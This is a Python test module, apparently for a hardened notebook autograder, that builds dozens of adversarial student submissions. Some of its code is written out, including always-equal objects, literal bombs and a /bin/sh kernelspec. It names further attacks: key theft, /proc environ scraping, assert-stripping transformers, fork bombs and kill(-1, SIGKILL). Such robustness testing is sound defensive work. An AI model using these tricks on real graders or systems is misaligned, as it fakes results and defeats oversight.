    nested = "[" * 5000 + "]" * 5000
    nb = answered(
        ctx.release,
        {
            "q1_order": f"answer_q1_order = {nested}",
            "q2_colvin_date": "answer_q2_colvin_date = '" + "2012-02-22" * 200_000 + "'",
            "q3_amos_year": "answer_q3_amos_year = " + "9" * 100_000,
            "q4_siege_length": "answer_q4_siege_length = 10 ** 100_000",
            "q5_years_to_judgement": "answer_q5_years_to_judgement = (" * 500 + "7" + ")" * 500,
            "q6_days_to_amos": "answer_q6_days_to_amos = 15 if True else 0",
        },
    )
    return Submission(dump(nb))


def _types(code: dict[str, str]) -> Callable[[Context, str], Submission]:
    return lambda ctx, student: Submission(dump(answered(ctx.release, code)))


INT_EQ = (
    "class Always(int):\n    def __eq__(self, other):\n        return True\n"
    "    __hash__ = int.__hash__\n\nanswer_q4_siege_length = Always(0)"
)
STR_SUB = (
    "class Date(str):\n    def __eq__(self, other):\n        return True\n"
    '    __hash__ = str.__hash__\n\nanswer_q2_colvin_date = Date("1999-12-31")'
)
LIST_SUB = (
    "class Letters(list):\n    def __eq__(self, other):\n        return True\n\n"
    'answer_q7_siege_sources = Letters(["A"])'
)
NUMPY = "import numpy\nanswer_q5_years_to_judgement = numpy.int64(7)"
LIAR = (
    "class Liar:\n    __class__ = property(lambda self: int)   # isinstance(x, int) is True\n"
    "    def __eq__(self, other):\n        return True\n"
    "    def __ne__(self, other):\n        return False\n"
    "    __hash__ = object.__hash__\n"
    "    def __ge__(self, other):\n        return True\n"
    "    __le__ = __gt__ = __lt__ = __ge__\n\n"
    "answer_q6_days_to_amos = Liar()"
)


def _build_cases() -> list[Case]:
    attack = attack_in_q1
    cases = [
        # Reading the key
        Case(
            "adv_key_relative",
            "Reads the answer key from ../../../source/ and feeds it to the tests.",
            attack(KEY_RELATIVE),
            kernel_inflates=False,
            escapes=True,
        ),
        Case(
            "adv_key_absolute",
            "Looks for source/ at the course's absolute path, in every "
            "parent folder and beside the venv, and feeds the key to the tests.",
            attack(KEY_ABSOLUTE),
            escapes=True,
        ),
        Case(
            "adv_key_homs",
            "Imports the installed homs package (or reads its quiz specs) to compute the key.",
            attack(KEY_HOMS),
            escapes=True,
        ),
        Case(
            "adv_gradebook_read",
            "Opens gradebook.db and reads the hidden tests from its source_cell table.",
            attack(GRADEBOOK_READ),
            escapes=True,
        ),
        Case(
            "adv_gradebook_write",
            "Opens gradebook.db for writing: extra credit and manual "
            "scores for everyone, a fake student, a new table.",
            attack(GRADEBOOK_WRITE),
            escapes=True,
        ),
        Case(
            "adv_environment",
            "Reads the grader's environment variables (its own and every "
            "/proc/*/environ) looking for a secret.",
            attack(ENVIRONMENT),
            escapes=True,
        ),
        # Objects that claim to be the key
        Case(
            "adv_int_eq",
            "An int subclass whose __eq__ is always True as Q4's answer.",
            _types({"q4_siege_length": INT_EQ}),
        ),
        Case(
            "adv_str_subclass",
            "A str subclass that equals everything as Q2's answer.",
            _types({"q2_colvin_date": STR_SUB}),
        ),
        Case(
            "adv_list_subclass",
            "A list subclass that equals everything as Q7's answer.",
            _types({"q7_siege_sources": LIST_SUB}),
        ),
        Case(
            "adv_numpy_scalar",
            "The right number as a numpy scalar, numpy.int64(7), as Q5's answer.",
            _types({"q5_years_to_judgement": NUMPY}),
        ),
        Case(
            "adv_liar",
            "An object that equals everything and claims int as its __class__ as Q6's answer.",
            _types({"q6_days_to_amos": LIAR}),
        ),
        # Changing what the kernel runs
        Case(
            "adv_ast_assert_to_pass",
            "An IPython AST transformer turns every later assert and raise into pass (the "
            "hidden checks raise), under a well-formed wrong answer.",
            attack(AST_ASSERT_TO_PASS, answers={"q3_amos_year": "answer_q3_amos_year = 1999"}),
            kernel_inflates=True,
        ),
        Case(
            "adv_ast_empty_tests",
            "An IPython AST transformer empties every test cell.",
            attack(AST_EMPTY_TESTS),
            kernel_inflates=True,
        ),
        Case(
            "adv_input_transformer",
            "An IPython input_transformers_cleanup entry replaces every test cell with pass.",
            attack(INPUT_TRANSFORMER),
            kernel_inflates=True,
        ),
        Case(
            "adv_custom_exc",
            "Calls set_custom_exc to swallow every exception, so failed tests show no error.",
            attack(CUSTOM_EXC),
        ),
        Case(
            "adv_read_test_history",
            "A pre_run_cell hook takes each hidden key from the test "
            "cell about to run; a last cell collects the keys from In/_ih and rewrites its own "
            "notebook file.",
            _read_history,
            kernel_inflates=True,
        ),
        Case(
            "adv_builtins",
            "Monkeypatches builtins (max, all) so the tests pass a wrong order.",
            attack(BUILTINS, q1=REVERSED_ORDER),
            kernel_inflates=True,
        ),
        Case(
            "adv_module_patch",
            "Monkeypatches IPython's InteractiveShell.transform_cell to skip "
            "test cells, and ast.literal_eval.",
            attack(MODULE_PATCH),
            kernel_inflates=True,
        ),
        Case(
            "adv_spoof_partial_answer",
            "A partly right Q1 whose answer cell prints and returns the full 5 points.",
            attack(SPOOF_ANSWER, q1=PARTIAL["q1_order"] + "\n5"),
            deserved=scores(q1_order=3),
        ),
        Case(
            "adv_spoof_partial_hook",
            "A partly right Q1 plus a formatter that shows every "
            "number as 5 and swallowed errors, spoofing nbgrader's partial credit.",
            attack(SPOOF_HOOK, q1=PARTIAL["q1_order"]),
            deserved=scores(q1_order=3),
            kernel_inflates=True,
        ),
        # Cells deleted, copied, moved, re-typed, re-labelled; metadata changed
        Case(
            "adv_copied_test_cell",
            "A copy of Q2's test cell pasted at the top (the copied "
            "cell that aborts a stock nbgrader batch).",
            _copied_test,
            deserved=scores(q3_amos_year=1),
            tampered=("duplicat", "copied", "copy", "twice", "multiple", "q2_colvin_date"),
        ),
        Case(
            "adv_copied_answer_cell",
            "Q5's answer cell copied, the copy below it changed to a wrong answer.",
            _copied_answer,
            deserved={**FULL, "q5_years_to_judgement": 0},
            tampered=("duplicat", "copied", "copy", "twice", "multiple", "q5_years"),
        ),
        Case(
            "adv_deleted_cells",
            "Deleted Q2's answer cell, Q3's test cell and both Q4 cells (right answers elsewhere).",
            _deleted,
            deserved={**FULL, "q2_colvin_date": 0, "q4_siege_length": 0},
            tampered=("delet", "missing", "restor", "removed"),
        ),
        Case(
            "adv_reordered_cells",
            "The items in reverse order, each test cell above its answer cell (right answers).",
            _reordered,
            deserved=FULL,
            tampered=("order", "moved", "position"),
        ),
        Case(
            "adv_tests_to_markdown",
            "Every test cell re-typed as Markdown, so no test runs.",
            _tests_to_markdown,
            tampered=("type", "markdown"),
        ),
        Case(
            "adv_answer_to_markdown",
            "Q2's answer cell (right) re-typed as Markdown.",
            _answer_to_markdown,
            deserved=scores(q2_colvin_date=1, q3_amos_year=1),
            tampered=("type", "markdown"),
        ),
        Case(
            "adv_markdown_to_code",
            "The locked intro and Q1 question cells re-typed as code "
            "that swallows errors and strips asserts.",
            _markdown_to_code,
            tampered=("type", "markdown", "locked", "restor", "changed"),
        ),
        Case(
            "adv_relabelled",
            "Q2/Q3 test cells swap grade_ids and become pass, Q4's test is "
            "renamed, Q5's answer cell claims to be Q5's test.",
            _relabelled,
            tampered=("grade_id", "label", "renamed", "unknown", "missing", "restor", "duplicat"),
        ),
        Case(
            "adv_points",
            "Points metadata changed: Q1 500, Q2 100, Q3 0 (Q1 partly right, the rest right).",
            _points,
            deserved={**FULL, "q1_order": 3},
            tampered=("point",),
        ),
        Case(
            "adv_grade_flags",
            "Test cells unlocked, ungraded and emptied; Q1's answer cell "
            "marked as a graded cell worth 50.",
            _grade_flags,
            tampered=("grade", "lock", "metadata", "restor", "changed"),
        ),
        Case(
            "adv_schema_version",
            'Sets the schema_version metadata to 1, 99, "3" and null.',
            _schema,
            deserved=scores(q3_amos_year=1),
            tampered=("schema", "metadata"),
        ),
        Case(
            "adv_extra_graded_cells",
            "Extra graded cells: a 100-point test, a 50-point essay and a 7-point q9.",
            _extra_graded,
            deserved=scores(q3_amos_year=1),
            tampered=("extra", "bonus", "q9", "unknown"),
        ),
        Case(
            "adv_kernelspec",
            "A changed kernelspec (a kernel named pwned-kernel running /bin/sh) and language_info.",
            _kernelspec,
            deserved=scores(q3_amos_year=1),
            tampered=("kernel",),
        ),
        # Files next to the notebook
        Case(
            "adv_fake_numpy",
            "A fake numpy.py beside the notebook, imported by the answer cell, strips asserts.",
            _fake_numpy,
            kernel_inflates=False,
            tampered=("numpy.py",),
        ),
        Case(
            "adv_fake_homs",
            "A fake homs package (and nbformat.py, nbclient.py) beside the "
            "notebook, in case the grader imports from there.",
            _fake_homs,
            deserved=scores(q3_amos_year=1),
            tampered=("homs",),
            escapes=True,
        ),
        Case(
            "adv_sitecustomize",
            "Hands in sitecustomize.py, usercustomize.py and an IPython "
            "startup file beside the notebook.",
            _sitecustomize,
            tampered=("sitecustomize",),
            escapes=True,
        ),
        Case(
            "adv_fake_launcher",
            "A fake ipykernel_launcher.py beside the notebook, which "
            "python -m ipykernel_launcher would run.",
            _fake_launcher,
            tampered=("ipykernel_launcher",),
            escapes=True,
        ),
        # Files that are not notebooks
        Case(
            "adv_truncated",
            "A notebook cut off at three fifths: invalid JSON.",
            _truncated,
            unreadable=True,
            tampered=("unreadable", "json", "invalid", "truncat"),
        ),
        Case(
            "adv_non_utf8",
            "A notebook written in Latin-1 (right answers).",
            _non_utf8,
            deserved=FULL,
            tampered=("utf-8", "utf8", "encod", "unreadable"),
        ),
        Case(
            "adv_nbformat5",
            "A notebook claiming nbformat 5 (right answers).",
            _nbformat5,
            deserved=FULL,
            tampered=("nbformat", "version", "unreadable"),
        ),
        Case(
            "adv_empty_file",
            "An empty file in place of the notebook.",
            lambda ctx, student: Submission(b""),
            unreadable=True,
            tampered=("empty", "unreadable", "json", "invalid"),
        ),
        Case(
            "adv_json_list",
            "A JSON list holding the notebook, in place of the notebook.",
            lambda ctx, student: Submission(dump([answered(ctx.release, RIGHT)])),
            unreadable=True,
            tampered=("not a", "unreadable", "notebook", "invalid"),
        ),
        Case(
            "adv_literal_bombs",
            "Answers that are 5000-deep lists, 2 MB strings, 100000-digit "
            "numbers and nested brackets.",
            _literal_bombs,
        ),
        # The kernel's own process
        Case(
            "adv_os_exit",
            "Calls os._exit(0) in the first answer cell (Q3 right).",
            _process(OS_EXIT),
            deserved=scores(q3_amos_year=1),
            tampered=("died", "kernel"),
        ),
        Case(
            "adv_sigkill_self",
            "SIGKILL to its own kernel in the first answer cell (Q3 right).",
            _process(SIGKILL_SELF),
            deserved=scores(q3_amos_year=1),
        ),
        Case(
            "adv_kill_parent",
            "SIGKILL to the kernel's parent process (in stock nbgrader: the grader).",
            _process(KILL_PARENT),
            deserved=scores(q3_amos_year=1),
            needs_isolation=True,
        ),
        Case(
            "adv_kill_all",
            "Calls kill(-1, SIGKILL) inside the sandbox: every process the kernel may signal.",
            _process(KILL_ALL),
            deserved=scores(q3_amos_year=1),
            needs_isolation=True,
            stock=False,
        ),
        Case(
            "adv_infinite_loop",
            "An infinite loop with SIGINT and SIGTERM ignored (Q3 right).",
            _process(INFINITE_LOOP),
            deserved=scores(q3_amos_year=1),
            tampered=("time", "timed out", "timeout"),
        ),
        Case(
            "adv_memory_bomb",
            "Allocates up to 3 GiB of real memory (Q3 right).",
            _process(MEMORY_BOMB),
            deserved=scores(q3_amos_year=1),
        ),
        Case(
            "adv_fork_bomb",
            "Forks up to 1000 sleeping children, more than the process limit (Q3 right).",
            _process(FORK_BOMB),
            deserved=scores(q3_amos_year=1),
            needs_isolation=True,
            stock=False,
        ),
        Case(
            "adv_output_flood",
            "Prints one million lines (Q3 right).",
            _process(OUTPUT_FLOOD),
            deserved=scores(q3_amos_year=1),
        ),
        Case(
            "adv_big_output",
            "All right, and the Q1 answer cell prints one 2 MB line.",
            _big_output,
            deserved=FULL,
            exact=True,
            tampered=("output",),
        ),
        Case(
            "adv_prefilled_outputs",
            "Test cells handed in with full-points outputs, then "
            "os._exit in the first answer cell so they are never re-run.",
            _prefilled,
        ),
        # Honest work that looks odd
        Case(
            "adv_stderr_answers",
            "All right, with answer cells printing to stderr, warning and logging.",
            _stderr_answers,
            deserved=FULL,
            exact=True,
        ),
        Case(
            "adv_stderr_in_tests",
            "All right, with a hook that prints to stderr after every cell, test cells included.",
            _stderr_hook,
            deserved=FULL,
            exact=True,
        ),
        # Reaching out
        Case(
            "adv_network",
            "Connects to a listener on the grader's loopback address.",
            attack(NETWORK),
            escapes=True,
        ),
        Case(
            "adv_write_others",
            "Writes into other students' hand-ins and autograded notebooks, "
            "source/, release/, nbgrader_config.py, and creates a fake student.",
            attack(WRITE_OTHERS),
            escapes=True,
        ),
        Case(
            "adv_copy_classmate",
            "Reads a classmate's hand-in and overwrites its own hand-in with it.",
            attack(SELF_REWRITE),
            escapes=True,
        ),
    ]
    return cases


def _read_history(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {})
    cell = nb["cells"][index_of(nb, "q1_order_answer")]
    cell["source"] = (
        fill(READ_HISTORY_HOOK, ctx, student).rstrip()
        + "\n\nanswer_q1_order = (\n    ...  # YOUR ANSWER HERE\n)"
    )
    nb["cells"].insert(len(nb["cells"]) - 1, new_code(fill(READ_HISTORY_FINAL, ctx, student)))
    return Submission(dump(nb))


def _process(code: str) -> Callable[[Context, str], Submission]:
    def build(ctx: Context, student: str) -> Submission:
        nb = answered(ctx.release, {"q3_amos_year": RIGHT["q3_amos_year"]})
        cell = nb["cells"][index_of(nb, "q1_order_answer")]
        cell["source"] = (
            fill(code, ctx, student).rstrip()
            + "\n\nanswer_q1_order = (\n    ...  # YOUR ANSWER HERE\n)"
        )
        return Submission(dump(nb))

    return build


def _big_output(ctx: Context, student: str) -> Submission:
    big = 'print("x" * 2_000_000)\n' + RIGHT["q1_order"]
    nb = answered(ctx.release, {**RIGHT, "q1_order": big})
    return Submission(dump(nb))


def _stderr_answers(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {item: STDERR_ANSWER + code for item, code in RIGHT.items()})
    return Submission(dump(nb))


def _stderr_hook(ctx: Context, student: str) -> Submission:
    nb = answered(ctx.release, {**RIGHT, "q1_order": STDERR_HOOK + RIGHT["q1_order"]})
    return Submission(dump(nb))


CASES: tuple[Case, ...] = tuple(_build_cases())


def case(student: str) -> Case:
    """The case of this student."""
    for c in CASES:
        if c.student == student:
            return c
    raise KeyError(student)


def honest_submission(ctx: Context, student: str) -> Submission:
    """The honest students' hand-ins."""
    answers = {"honest_all_right": RIGHT, "honest_partial": PARTIAL}[student]
    return Submission(dump(answered(ctx.release, answers)))


def check_keys_agree(quiz: grading.Quiz) -> list[str]:
    """Differences between :data:`RIGHT` and the quiz's key (empty when they agree)."""
    problems = []
    for item in quiz.items:
        if item.written:
            continue
        answers = grading.read_answers(
            {"cells": [{"cell_type": "code", "source": RIGHT[item.id]}]}, [item.variable]
        )
        if answers[item.variable].value != item.key:
            problems.append(item.id)
    return problems
